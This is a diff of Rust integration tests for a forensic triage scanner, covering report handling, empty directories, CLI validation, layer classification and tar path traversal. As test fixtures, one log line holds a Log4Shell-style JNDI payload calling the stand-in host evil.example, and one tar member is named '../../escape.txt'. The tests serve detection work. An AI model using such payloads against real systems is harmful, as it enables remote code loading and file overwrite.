@@ -4,7 +4,7 @@
 
 use serde_json::Value;
 
-use crate::util::{run_json, write_files};
+use crate::util::{run, run_json, write_files};
 
 fn findings(b: &Value) -> Vec<(String, String)> {
     b["findings"]
@@ -104,4 +104,114 @@ fn scan_with_base_image_matches_diff_and_keeps_custody() {
         b["artifacts"].as_array().unwrap().iter().find(|a| a["path"] == i).expect("base image in custody");
     assert_eq!(base["sha256"], crate::util::sha256_file(&image));
     assert_eq!(base["note"], "given with --base-image");
+}
+
+#[test]
+fn a_report_saved_inside_the_bundle_is_not_evidence() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = b"10.0.0.9 - - [27/Nov/2026:14:00:00 +0000] \"GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1\" 200 1\n";
+    write_files(dir.path(), &[("access.log", log)]);
+    let d = dir.path().to_str().unwrap();
+    let (first, _) = run_json(&["scan", d]);
+    let hits = first["bundles"][0]["log_hits"].as_array().unwrap().len();
+    assert!(hits >= 1);
+    // Both report formats, written into the bundle itself.
+    for (fmt, name) in [("json", "report.json"), ("text", "report.txt")] {
+        let out = dir.path().join(name);
+        let o = run(&["scan", d, "--format", fmt, "--output", out.to_str().unwrap()]);
+        assert!(o.status.code().unwrap() <= 1, "{}", String::from_utf8_lossy(&o.stderr));
+    }
+    let (again, _) = run_json(&["scan", d]);
+    let b = &again["bundles"][0];
+    let kinds: Vec<(&str, &str)> = b["artifacts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| (a["path"].as_str().unwrap(), a["kind"].as_str().unwrap()))
+        .collect();
+    assert_eq!(
+        kinds,
+        [("access.log", "text-log"), ("report.json", "ctriage-report"), ("report.txt", "ctriage-report")]
+    );
+    assert_eq!(b["log_hits"].as_array().unwrap().len(), hits, "the reports' quoted payloads are no hits");
+    assert_eq!(b["findings"], first["bundles"][0]["findings"]);
+}
+
+#[test]
+fn empty_directory_is_said_to_be_empty() {
+    let dir = tempfile::tempdir().unwrap();
+    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    let msgs: Vec<&str> = v["bundles"][0]["diagnostics"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|d| d["message"].as_str().unwrap())
+        .collect();
+    assert_eq!(msgs, ["directory holds no files: nothing to analyse"]);
+}
+
+#[test]
+fn cli_rejects_impossible_values() {
+    let img = crate::util::root().join("samples/dvwa/image.tar");
+    let img = img.to_str().unwrap();
+    let out = run(&["layers", img, "--tree", "--at", "99"]);
+    assert_eq!(out.status.code(), Some(64));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("--at 99") && err.contains("has 5 layer(s), numbered 0..4"), "{err}");
+    assert!(out.stdout.is_empty(), "no view of another layer is shown");
+    let out = run(&["layers", img, "--tree", "--at", "4"]);
+    assert!(out.status.code().unwrap() <= 1);
+    let out = run(&["--jobs", "0", "scan", img]);
+    assert_eq!(out.status.code(), Some(64));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("--jobs"));
+}
+
+#[test]
+fn layers_reads_any_tar_as_a_layer_and_says_what_else_is() {
+    let dir = tempfile::tempdir().unwrap();
+    // A plain layer (no whiteouts, no root dirs): one layer, three files, exit 0.
+    let mut t = tar::Builder::new(Vec::new());
+    for n in ["a.txt", "b.txt", "c.txt"] {
+        let mut h = tar::Header::new_gnu();
+        h.set_size(1);
+        h.set_mode(0o644);
+        h.set_cksum();
+        t.append_data(&mut h, n, &b"x"[..]).unwrap();
+    }
+    let layer = dir.path().join("layer.tar");
+    std::fs::write(&layer, t.into_inner().unwrap()).unwrap();
+    let (v, code) = run_json(&["layers", layer.to_str().unwrap()]);
+    assert_eq!(code, 0);
+    assert_eq!(v["images"][0]["layout"], "layer-tar");
+    assert_eq!(v["images"][0]["layers"][0]["added"], 3);
+    // A log: exit 2, and said what it is.
+    write_files(dir.path(), &[("app.log", b"2026-11-27 14:00:00,123 INFO started\n")]);
+    let (v, code) = run_json(&["layers", dir.path().join("app.log").to_str().unwrap()]);
+    assert_eq!(code, 2);
+    assert!(v["diagnostics"][0]["message"].as_str().unwrap().contains("its content is text-log"));
+}
+
+#[test]
+fn absolute_member_names_are_not_traversal() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut t = tar::Builder::new(Vec::new());
+    for (n, data) in [("/case/diff.txt", &b"A /tmp/x\n"[..]), ("../../escape.txt", &b"x\n"[..])] {
+        let mut h = tar::Header::new_gnu();
+        h.as_gnu_mut().unwrap().name[..n.len()].copy_from_slice(n.as_bytes());
+        h.set_size(data.len() as u64);
+        h.set_mode(0o644);
+        h.set_cksum();
+        t.append(&h, data).unwrap();
+    }
+    let p = dir.path().join("bundle.tar");
+    std::fs::write(&p, t.into_inner().unwrap()).unwrap();
+    let (v, _) = run_json(&["scan", p.to_str().unwrap()]);
+    let diags: Vec<(&str, &str)> = v["bundles"][0]["diagnostics"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|d| (d["locator"]["artifact"].as_str().unwrap(), d["message"].as_str().unwrap()))
+        .collect();
+    assert!(diags.iter().any(|(a, m)| *a == "../../escape.txt" && m.contains("traversal")), "{diags:?}");
+    assert!(!diags.iter().any(|(a, m)| a.contains("diff.txt") && m.contains("traversal")), "{diags:?}");
 }
